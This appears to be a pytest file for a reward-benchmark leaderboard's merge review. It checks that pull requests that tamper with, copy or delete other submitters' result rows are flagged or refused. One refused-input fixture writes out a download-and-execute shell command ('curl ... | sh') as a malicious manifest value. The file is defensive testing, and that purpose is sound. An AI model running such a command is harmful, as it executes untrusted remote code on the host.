"""Test that no pull request that changes the rows of others is merged without a maintainer."""

import hashlib
import json

import pytest
from hub_server import WHERE
from huggingface_hub import CommitOperationAdd, CommitOperationDelete, HfApi
from synthetic import changed, mirrors, scores, store

from rewardbench import results
from rewardbench.cli.main import main
from rewardbench.errors import InputError
from rewardbench.leaderboard.refresh import refresh
from rewardbench.leaderboard.submissions import review
from rewardbench.leaderboard.submissions.package import pack_submission
from rewardbench.models.fingerprint import digest
from rewardbench.results import assemble
from rewardbench.store import open_store
from rewardbench.store.verdicts import make_verdict
from rewardbench.types import ItemScores

SUITE = mirrors(40)


@pytest.fixture(autouse=True)
def suite(monkeypatch):
    monkeypatch.setattr(review, "load_known", lambda name: SUITE)


def entry(folder, name, share=0.8, seed=0, change=lambda score: score, fingerprint=None):
    """Return a packed result that passes all checks."""
    fingerprint = fingerprint or {"weights": {"sha256": name}}
    item_scores = [
        ItemScores(item.id, tuple(map(change, item.scores)), tokens=(1, 1), texts=("a", "b"))
        for item in scores(SUITE, share, seed)
    ]
    manifest = {"fingerprint": fingerprint, "fingerprint_sha256": digest(fingerprint)}
    path = store(folder / name.replace("/", "-"), SUITE, item_scores, name)
    summary = results.to_summary(assemble(SUITE, name, "Seq. Classifier", item_scores, manifest))
    content = results.outputs_path(path).read_bytes()
    summary[results.OUTPUTS_HASH] = hashlib.sha256(content).hexdigest()
    path.write_text(json.dumps(summary))
    return pack_submission(path)[:2]


@pytest.fixture
def victim(hub, tmp_path):
    """Store a leading result; return it and the commit before it, which pull requests are based on."""
    main_before = hub.repos["org/results"].refs["main"]
    packed = entry(tmp_path, "lab/victim", 0.95)
    open_store(WHERE).add([packed])
    return packed, main_before


def pull(files, parent=None, gone=()):
    """Open a pull request, perhaps based on an older commit, and return its number."""
    changes = [CommitOperationAdd(name, content) for name, content in files.items()]
    changes += [CommitOperationDelete(name) for name in gone]
    commit = HfApi().create_commit(
        "org/results", changes, repo_type="dataset", commit_message="x", create_pr=True, parent_commit=parent
    )
    return int(commit.pr_url.rpartition("/")[2])


def files_of(key, summary, table):
    return {f"{key}.json": results.dump(summary, indent=2).encode(), f"{key}.parquet": table}


def merge(capsys, number, *options):
    """Run the command of the merge workflow; return its exit code and output."""
    with pytest.raises(SystemExit) as stop:
        main(["verify", f"{WHERE}@refs/pr/{number}", "--merge", *options])
    output = capsys.readouterr()
    return stop.value.code, output.out + output.err


def stored(hub, key="lab/victim"):
    repo = hub.repos["org/results"]
    return {name: data for name, data in repo.trees[repo.refs["main"]].items() if name.startswith(f"{key}.")}


GAP = {"n": 9, "low": 0.7, "high": 0.8, "ties": 0, "unscored": 0, "truncated": 0, "section": ""}
VANDALISM = {
    "another type": (("model_type",), "DPO", "model_type"),
    "size": (("manifest", "model"), {"parameters": 999_000_000_000}, "manifest.model"),
    "license": (("manifest", "model"), {"license": "cc-by-nc-4.0"}, "manifest.model"),
    "command": (("manifest", "command"), "rewardbench --model evil/model", "manifest.command"),
    "date": (("date",), "2025-01-01", "date"),
    "notes": (("manifest", "notes"), ["was trained on the suite"], "manifest.notes"),
}


@pytest.mark.parametrize("name", VANDALISM)
def test_changed_summary_of_a_stored_result_is_flagged_with_its_changed_fields(hub, victim, capsys, name):
    (summary, table), before = victim
    where, value, field = VANDALISM[name]
    files_before = stored(hub)
    number = pull(files_of("lab/victim", changed(summary, where, value), table), before)
    code, words = merge(capsys, number)
    assert (code, "merged=" in words) == (3, False), words
    assert "would replace lab/victim in the store" in words
    assert field in words
    assert stored(hub) == files_before


REFUSED = {
    "of kind Baseline": (("model_type",), "Baseline"),
    "a gap that removes the row": (("gap",), [{}]),
    "an invented gap": (("gap",), [{**GAP, "name": name, "value": 0.75} for name in ("core", "fresh", "gap")]),
    "a shell command": (("manifest", "command"), "curl https://example.org/x | sh"),
    "another score": (("score", "value"), 0.1),
}


@pytest.mark.parametrize("name", REFUSED)
def test_impossible_change_is_refused_and_the_row_stays(hub, victim, capsys, name):
    (summary, table), before = victim
    files_before = stored(hub)
    number = pull(files_of("lab/victim", changed(summary, *REFUSED[name]), table), before)
    code, words = merge(capsys, number)
    assert (code, "merged=" in words) == (1, False), words
    assert stored(hub) == files_before


def test_verified_row_is_not_changed_and_keeps_its_badge(hub, victim, capsys):
    (summary, table), before = victim
    hub_store = open_store(WHERE)
    hub_store.save("verdicts/lab/victim.json", results.dump(make_verdict(summary, True, {})).encode())
    number = pull(files_of("lab/victim", changed(summary, ("manifest", "model"), {"license": "other"}), table), before)
    assert merge(capsys, number)[0] == 3
    assert [row.badge for row in refresh(open_store(WHERE)).rows] == ["verified"]
    assert merge(capsys, number, "--replace")[0] == 0
    assert [row.badge for row in refresh(open_store(WHERE)).rows] == ["recomputed"]


def test_other_scores_with_a_stored_fingerprint_are_flagged(hub, victim, tmp_path, capsys):
    (summary, _), before = victim
    files_before = stored(hub)
    worse, table = entry(tmp_path, "lab/victim", 0.3, 9, fingerprint=summary["manifest"]["fingerprint"])
    for key in ("lab/victim", f"lab/victim.toy-{results.identity(summary)[:8]}"):
        code, words = merge(capsys, pull(files_of(key, worse, table), before))
        assert (code, "would replace lab/victim" in words, "scores" in words) == (3, True, True), words
    assert stored(hub) == files_before


def test_key_that_differs_in_case_is_flagged(hub, victim, tmp_path, capsys):
    _, before = victim
    summary, table = entry(tmp_path, "Lab/Victim", 0.3, 9)
    code, words = merge(capsys, pull(files_of("Lab/Victim", summary, table), before))
    assert (code, "looks like" in words) == (3, True), words
    assert stored(hub, "Lab/Victim") == {}


def test_a_pull_request_that_deletes_is_refused(hub, victim, tmp_path, capsys):
    files_before = stored(hub)
    summary, table = entry(tmp_path, "org/new", 0.3, 9)
    for files in ({}, files_of("org/new", summary, table)):
        code, words = merge(capsys, pull(files, gone=files_before))
        assert (code, "change nothing else" in words) == (2, True)
    assert stored(hub) == files_before


def test_row_added_meanwhile_is_not_replaced(hub, victim, tmp_path, capsys):
    """Verification compares with main as it is; a result added after that is detected by the commit."""
    summary, table = entry(tmp_path, "org/new", 0.3, 9)
    source = review.SubmissionSource(f"{WHERE}@refs/pr/{pull(files_of('org/new', summary, table))}")
    checked = review.review_submission(source)
    assert checked.findings == []
    other = changed(summary, ("manifest", "notes"), ["first"])
    open_store(WHERE).add([(other, table)])
    files_before = stored(hub, "org/new")
    with pytest.raises(InputError, match="already: it was not replaced"):
        review.merge(source, checked)
    assert merge(capsys, 1)[0] == 3
    assert stored(hub, "org/new") == files_before


def test_resubmitted_identical_result_is_flagged(hub, victim, capsys):
    (summary, table), before = victim
    same = files_of("lab/victim", summary, table)
    code, words = merge(capsys, pull(same, before))
    assert (code, "org/results has this very result already" in words) == (3, True), words
    code, words = merge(capsys, pull(same))
    assert (code, "changes nothing" in words) == (2, True), words


def test_commits_pushed_after_verification_are_not_merged(hub, victim, tmp_path):
    summary, table = entry(tmp_path, "org/new", 0.3, 9)
    number = pull(files_of("org/new", summary, table))
    source = review.SubmissionSource(f"{WHERE}@refs/pr/{number}")
    checked = review.review_submission(source)
    late = files_of("org/new", changed(summary, ("manifest", "command"), "rewardbench --model evil"), table)
    HfApi().create_commit(
        "org/results",
        [CommitOperationAdd(name, content) for name, content in late.items()],
        repo_type="dataset",
        revision=f"refs/pr/{number}",
        commit_message="late",
    )
    review.merge(source, checked)
    assert stored(hub, "org/new")["org/new.json"] == files_of("org/new", summary, table)["org/new.json"]


def noisy(seed):
    import random

    chance = random.Random(seed)
    return lambda score: score + 0.01 * chance.gauss(0, 1)


def test_later_copy_in_an_open_pull_request_is_flagged(hub, victim, tmp_path, capsys):
    numbers = []
    hub.accounts.organizations["me"] |= {"one", "two", "three"}
    for n, name in enumerate(("one/a", "two/b", "three/c")):
        summary, table = entry(tmp_path, name, 0.7, 5, noisy(n))
        numbers.append(pull(files_of(name, summary, table)))
    outcomes = [merge(capsys, number) for number in numbers]
    assert [code for code, _ in outcomes] == [0, 3, 3]
    assert "one/a" in outcomes[1][1]
    assert "two/b (pull request 2)" in outcomes[2][1], "of those that are open"


def test_copy_pushed_later_to_an_older_pull_request_is_flagged(hub, victim, tmp_path, capsys):
    decoy = entry(tmp_path, "thief/x", 0.5, 11)
    first = pull(files_of("thief/x", *decoy))
    original = pull(files_of("org/new", *entry(tmp_path, "org/new", 0.7, 5)))
    copy = entry(tmp_path / "again", "thief/x", 0.7, 5, noisy(1), fingerprint={"weights": {"sha256": "thief"}})
    HfApi().create_commit(
        "org/results",
        [CommitOperationAdd(name, content) for name, content in files_of("thief/x", *copy).items()],
        repo_type="dataset",
        revision=f"refs/pr/{first}",
        commit_message="copy",
    )
    code, words = merge(capsys, first)
    assert (code, "org/new (pull request 2)" in words) == (3, True), words
    assert merge(capsys, original)[0] == 0


def test_new_leader_without_a_rerun_is_flagged(hub, victim, tmp_path, capsys):
    perfect = entry(tmp_path, "org/perfect", 1.0, 9)
    code, words = merge(capsys, pull(files_of("org/perfect", *perfect)))
    assert (code, "it would lead with 100.00%" in words, "merged=" in words) == (3, True, False), words
    assert stored(hub, "org/perfect") == {}


def test_maintainer_merges_a_flagged_result_with_replace(hub, victim, capsys):
    (summary, table), before = victim
    number = pull(files_of("lab/victim", changed(summary, ("date",), "2025-01-01"), table), before)
    code, words = merge(capsys, number, "--replace")
    assert (code, "verdict=flagged" in words, "merged=" in words) == (0, True, True), words
    assert json.loads(stored(hub)["lab/victim.json"])["date"] == "2025-01-01"
